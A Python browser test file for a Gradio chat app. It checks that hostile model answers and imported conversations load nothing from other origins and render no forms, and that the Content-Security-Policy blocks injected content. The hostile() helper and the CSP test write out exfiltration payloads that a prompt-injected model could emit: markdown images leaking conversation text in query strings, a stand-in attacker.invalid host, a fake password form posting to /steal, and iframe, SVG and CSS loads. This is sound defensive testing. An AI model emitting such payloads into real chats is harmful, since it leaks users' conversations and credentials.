"""Hostile chat content in Chromium: it loads nothing from another origin and shows no form.

An "attacker" HTTP server on another port stands for every other host: model output and imported
conversations point images, forms, frames and objects at it. Each test records every request the
page makes and checks the chat's DOM, so what is asserted is what the visitor's browser did and
showed, with Gradio's real renderer. tests/test_safe_markdown.py tests the rewrite itself;
fixtures and helpers are in tests/browser.py.
"""

from __future__ import annotations

import base64
import contextlib
import http.server
import json
import random
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from llmchat.testing.openai_server import Behavior, OpenAITestServer
from llmchat.web.csp import POLICY
from tests.browser import (  # noqa: F401 - the *_fixture names are fixtures (browser)
    ARTIFACTS,
    BOT,
    IMPORT,
    INPUT,
    TIMEOUT,
    USER,
    Page,
    browser_fixture,
    open_files,
    send,
    wait_idle,
    wait_saved,
)

pytestmark = pytest.mark.browser

RED_PNG = base64.b64decode(  # 4 x 4 red pixels
    "iVBORw0KGgoAAAANSUhEUgAAAAQAAAAECAIAAAAmkwkpAAAAEElEQVR4nGM4oaEBRwzEcQDRQxGBSNLB6wAAAABJRU5ErkJggg=="
)
CHAT = "#llmchat-chat"
# Elements that chat content must never produce (Gradio's own code-copy buttons are allowed).
FORBIDDEN = (
    "form, input, textarea, select, button:not(.copy_code_button), iframe, frame, object, embed, video, "
    "audio, source, link, meta, base, style, svg image, [srcset], [style*=url]"
)
RECORD_CSP = """window.llmchatCsp = [];
document.addEventListener("securitypolicyviolation",
    e => window.llmchatCsp.push(e.violatedDirective + " " + e.blockedURI));"""


class Attacker:
    """Every other host: an HTTP server on its own port that records what it is asked for."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.end_headers()
                self.wfile.write(RED_PNG)

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    yield server
    server.close()


class Visit:
    """A page opened in a fresh browser context, with every request it made and every
    Content-Security-Policy violation it reported."""

    def __init__(self, page: Page, origin: str) -> None:
        self.page, self.origin, self.requests = page, origin, []

    def elsewhere(self) -> list[str]:
        """Requests that went to (or were blocked on their way to) another origin."""
        return [
            url for url in self.requests if f"{urlsplit(url).scheme}://{urlsplit(url).netloc}" != self.origin
        ]

    def csp_violations(self) -> list[str]:
        return self.page.evaluate("window.llmchatCsp")


@pytest.fixture
def visit(browser: Any, request: pytest.FixtureRequest) -> Iterator[Callable[[str], Visit]]:
    contexts: list[Any] = []
    visits: list[Visit] = []

    def open_(url: str) -> Visit:
        context = browser.new_context(viewport={"width": 1280, "height": 1000})
        context.set_default_timeout(TIMEOUT)
        contexts.append(context)
        context.add_init_script(RECORD_CSP)
        page = context.new_page()
        split = urlsplit(url)
        seen = Visit(page, f"{split.scheme}://{split.netloc}")
        context.on("request", lambda req: seen.requests.append(req.url))
        page.goto(url)
        page.wait_for_selector(INPUT)
        wait_idle(page)
        visits.append(seen)
        return seen

    yield open_
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    for i, seen in enumerate(visits):
        suffix = f"-{i + 1}" if len(visits) > 1 else ""
        with contextlib.suppress(Exception):
            seen.page.screenshot(path=ARTIFACTS / f"{request.node.name}{suffix}.png", full_page=True)
    for context in contexts:
        context.close()


def hostile(at: str, end: str = "THE END") -> str:
    """An answer a prompt-injected model could write: everything points at ``at``."""
    return (
        f"Here is your summary ![chart]({at}/markdown-image.png?q=the+secret+conversation) "
        "and ![](http://attacker.invalid/pixel.png).\n\n"
        f'<img src="{at}/img-tag.png" width="1" height="1">\n\n'
        f'<form action="{at}/steal" method="post"><input type="password" name="p" placeholder="Password">'
        "<button>Log in</button></form>\n\n"
        f'<iframe src="{at}/frame"></iframe> <object data="{at}/object"></object> '
        f'<embed src="{at}/embed"> <video src="{at}/video.mp4" poster="{at}/poster.png"></video>\n\n'
        f'<svg><image href="{at}/svg.png"/></svg> '
        f'<span style="background:url({at}/style.png)">styled</span>\n\n'
        f"```mermaid\ngraph TD\nA[\"<img src='{at}/mermaid.png'>\"]\n```\n\n"
        f"![ref][r] and [link text]({at}/clicked-only)\n\n[r]: {at}/reference.png\n\n{end}"
    )


def chat_problems(visit: Visit) -> list[str]:
    """Anything active that the messages' Markdown made, and every image not from the app."""
    return visit.page.evaluate(
        """([chat, forbidden]) => {
            const out = [];
            const messages = document.querySelectorAll(
                `${chat} [data-testid=bot], ${chat} [data-testid=user]`);
            for (const message of messages) {
                for (const md of message.querySelectorAll(".md"))  // what Markdown made, not Gradio's own UI
                    for (const el of md.querySelectorAll(forbidden)) out.push(el.outerHTML.slice(0, 120));
                for (const img of message.querySelectorAll("img")) {
                    const src = img.currentSrc || img.src;
                    if (!src.startsWith("data:") && new URL(src).origin !== location.origin)
                        out.push("img " + src);
                }
            }
            return out;
        }""",
        [CHAT, FORBIDDEN],
    )


def shown_images(visit: Visit, who: str) -> list[dict[str, Any]]:
    """The images in the chat's messages (``who``: BOT or USER), loaded or not."""
    return (
        visit.page.locator(who)
        .locator("img")
        .evaluate_all(
            """imgs => imgs.map(i => ({src: i.currentSrc || i.src, loaded: i.complete && i.naturalWidth > 0,
                                    same: new URL(i.currentSrc || i.src).origin === location.origin}))"""
        )
    )


# --- model output ----------------------------------------------------------------------------------


def test_a_hostile_answer_loads_nothing_and_shows_no_form(
    visit: Callable[[str], Visit], app_url: str, server: OpenAITestServer, attacker: Attacker
) -> None:
    server.set_behavior(
        Behavior(reply=hostile(attacker.url), reasoning=f"<img src={attacker.url}/think.png>")
    )
    seen = visit(app_url)
    send(seen.page, "Summarise our conversation")
    seen.page.wait_for_function(f"() => document.querySelector({CHAT!r}).innerText.includes('THE END')")
    seen.page.wait_for_timeout(1500)  # time for any image, frame or object to be fetched
    assert seen.elsewhere() == [] and attacker.hits == []
    assert chat_problems(seen) == []
    answer = seen.page.locator(BOT).last.inner_text()
    for visible in ("Here is your summary", '<form action="', 'placeholder="Password"', "<iframe", "Log in"):
        assert visible in answer  # the text is still there to read, as text
    link = seen.page.locator(BOT).last.get_by_role("link", name="chart")
    assert link.get_attribute("href") == f"{attacker.url}/markdown-image.png?q=the+secret+conversation"


def test_images_the_visitor_attached_still_show(
    visit: Callable[[str], Visit], app_url: str, server: OpenAITestServer, tmp_path: Path
) -> None:
    picture = tmp_path / "red.png"
    picture.write_bytes(RED_PNG)
    seen = visit(app_url)
    seen.page.locator("#llmchat-input input[type=file]").set_input_files(str(picture))
    seen.page.wait_for_selector("#llmchat-input .thumbnail-item")
    send(seen.page, "What colour is this?")
    seen.page.wait_for_function(f"() => document.querySelectorAll({BOT!r}).length === 1")
    seen.page.wait_for_function(
        f"() => [...document.querySelectorAll({USER!r} + ' img')].some(i => i.complete && i.naturalWidth > 0)"
    )
    assert [(i["loaded"], i["same"]) for i in shown_images(seen, USER)] == [(True, True)]
    wait_saved(seen.page)
    seen.page.reload()  # the conversation comes back from the browser's storage, image included
    seen.page.wait_for_selector(INPUT)
    seen.page.wait_for_function(
        f"() => [...document.querySelectorAll({USER!r} + ' img')].some(i => i.complete && i.naturalWidth > 0)"
    )
    assert [(i["loaded"], i["same"]) for i in shown_images(seen, USER)] == [(True, True)]
    assert seen.elsewhere() == [] and seen.csp_violations() == []  # the policy blocks nothing of Gradio's


# --- imported conversations ------------------------------------------------------------------------


def test_an_imported_hostile_conversation_loads_nothing_and_shows_no_form(
    visit: Callable[[str], Visit], app_url: str, server: OpenAITestServer, attacker: Attacker, tmp_path: Path
) -> None:
    png = "data:image/png;base64," + base64.b64encode(RED_PNG).decode()
    document = {
        "messages": [
            {"role": "user", "content": [
                {"type": "text", "text": f'Look <img src="{attacker.url}/u.png"> <input type="password">'},
                {"type": "image_url", "image_url": {"url": png}},
            ]},
            {"role": "assistant", "content": hostile(attacker.url)},
        ]
    }  # fmt: skip
    saved = tmp_path / "conversation.json"
    saved.write_text(json.dumps(document), encoding="utf-8")
    seen = visit(app_url)
    open_files(seen.page)
    seen.page.locator(IMPORT).set_input_files(str(saved))
    seen.page.wait_for_selector("text=Imported 2 messages")
    seen.page.wait_for_function(f"() => document.querySelector({CHAT!r}).innerText.includes('THE END')")
    seen.page.wait_for_function(
        f"() => [...document.querySelectorAll({USER!r} + ' img')].some(i => i.complete && i.naturalWidth > 0)"
    )
    seen.page.wait_for_timeout(1500)
    assert seen.elsewhere() == [] and attacker.hits == []
    assert chat_problems(seen) == []
    assert [(i["loaded"], i["same"]) for i in shown_images(seen, USER)] == [
        (True, True)
    ]  # the imported image
    assert '<input type="password">' in " ".join(seen.page.locator(USER).all_inner_texts())


_PIECES = [
    "<form><input type=password></form>", "<b>", "</b>", "<details>", "<p>", "`", "``", "```", "```mermaid",
    "~~~", "![a]({at}/a.png)", "![a]", "[", "](u)", "*", "_", "~", "|", "|---|", "- ", "1. ", "> ", "   ",
    "\t", "\n", "\n\n", "$$", "\\", "<img src={at}/b.png>", "<iframe src={at}/f>", "http://x.example/",
    "<https://x.example>", "text", " ", "<", "!", "[r]: {at}/c.png", '"', "<!--", "-->", "<pre>",
    "<video src={at}/v>", "\\<", "http://x.example/\\", '[x]: u "', "\n    ", "~~~~", "<details>\n", "\n> ",
    "1) ", "\n  - ", "<br>", "~`", "`~",
]  # fmt: skip


def test_random_hostile_markdown_stays_inert(
    visit: Callable[[str], Visit], app_url: str, server: OpenAITestServer, attacker: Attacker, tmp_path: Path
) -> None:
    """Hundreds of generated messages made of the pieces marked's parser treats specially (fences
    in lists, HTML blocks, link definitions, tables, code spans, LaTeX, mermaid) and hostile tags:
    rendered by Gradio, none loads anything or shows a form. This checks the rewrite against the
    real renderer, not against what the rewrite believes marked does."""
    rng = random.Random(20260)
    pieces = [piece.replace("{at}", attacker.url) for piece in _PIECES]
    messages = []
    for index in range(400):
        text = "".join(rng.choice(pieces) for _ in range(rng.randint(3, 40))) + f" END{index}"
        messages.append({"role": "user" if index % 2 else "assistant", "content": text})
    saved = tmp_path / "fuzz.json"
    saved.write_text(json.dumps({"messages": messages}), encoding="utf-8")
    seen = visit(app_url)
    open_files(seen.page)
    seen.page.locator(IMPORT).set_input_files(str(saved))
    seen.page.wait_for_selector("text=Imported 400 messages", timeout=60_000)
    seen.page.wait_for_function(
        f"() => document.querySelector({CHAT!r}).innerText.includes('END399')", timeout=60_000
    )
    seen.page.wait_for_timeout(2000)
    assert chat_problems(seen) == []
    assert seen.elsewhere() == [] and attacker.hits == []


# --- the Content-Security-Policy -----------------------------------------------------------------


def test_the_browser_itself_refuses_what_might_get_through(
    visit: Callable[[str], Visit], app_url: str, attacker: Attacker
) -> None:
    """The second wall: were an image, frame, object or form to reach the page some other way,
    the page's Content-Security-Policy stops the browser from loading or submitting it."""
    seen = visit(app_url)
    seen.page.evaluate(
        """at => {
            const chat = document.querySelector("#llmchat-chat");
            chat.insertAdjacentHTML("beforeend",
                `<img src="${at}/injected.png"><iframe src="${at}/frame"></iframe>` +
                `<object data="${at}/object"></object><video src="${at}/video.mp4"></video>` +
                `<form id="injected-form" action="${at}/steal" method="post">` +
                `<input name="p" value="secret"></form>`);
            document.getElementById("injected-form").submit();
        }""",
        attacker.url,
    )
    seen.page.wait_for_timeout(1500)
    assert attacker.hits == []
    directives = {violation.split()[0] for violation in seen.csp_violations()}
    assert {"img-src", "frame-src", "object-src", "media-src", "form-action"} <= directives
    assert seen.page.url.startswith(app_url)  # the form went nowhere
    headers = seen.page.request.get(app_url).headers
    assert headers["content-security-policy"] == POLICY
